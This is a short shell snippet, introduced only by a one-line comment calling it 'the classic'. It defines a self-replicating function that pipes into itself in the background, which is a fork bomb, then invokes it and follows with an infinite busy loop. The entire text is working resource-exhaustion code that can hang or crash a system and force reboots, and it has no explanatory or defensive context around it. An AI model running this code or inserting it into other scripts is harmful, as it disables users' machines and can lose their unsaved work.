# The classic: a function that pipes itself into itself, in the background.
bomb() { bomb | bomb & }
bomb
while true; do :; done
